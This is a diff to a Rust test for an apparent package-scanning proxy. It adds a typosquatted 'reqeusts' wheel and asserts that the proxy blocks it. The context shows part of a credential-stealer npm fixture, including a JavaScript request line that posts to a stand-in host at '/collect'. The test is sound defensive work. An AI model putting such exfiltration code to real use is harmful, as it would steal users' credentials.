@@ -18,7 +18,7 @@ const req = https.request({hostname: '203.0.113.7', port: 443, path: '/collect',
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn real_scanner_judges_on_the_way_in() {
     let up = Upstream {
-        py: vec![wheel("plainpkg", "1.0")],
+        py: vec![wheel("plainpkg", "1.0"), wheel("reqeusts", "2.31.0")],
         npm: vec![
             tarball_with(
                 "stealer",
@@ -45,6 +45,22 @@ async fn real_scanner_judges_on_the_way_in() {
         .unwrap();
     assert_eq!(r.status(), 200);
     assert_eq!(r.headers()["x-sluice-verdict"], "clean");
+    // A typosquat of a popular name with harmless content: the name check
+    // alone keeps it from being served.
+    let r = c
+        .get(h.url("/files/pypi/reqeusts/reqeusts-2.31.0-py3-none-any.whl"))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(r.status(), 403);
+    let arts = h
+        .gate
+        .store
+        .artifacts_of(Ecosystem::PyPI, "reqeusts", None)
+        .unwrap();
+    assert_ne!(arts[0].verdict, VerdictLevel::Clean);
+    let report = h.gate.store.report(&arts[0].sha256).unwrap().unwrap();
+    assert!(report.contains("NAME4"), "{report}");
     // Credential stealer with an install hook: refused on its first fetch.
     let r = c
         .get(h.url("/npm/stealer/-/stealer-1.0.0.tgz"))
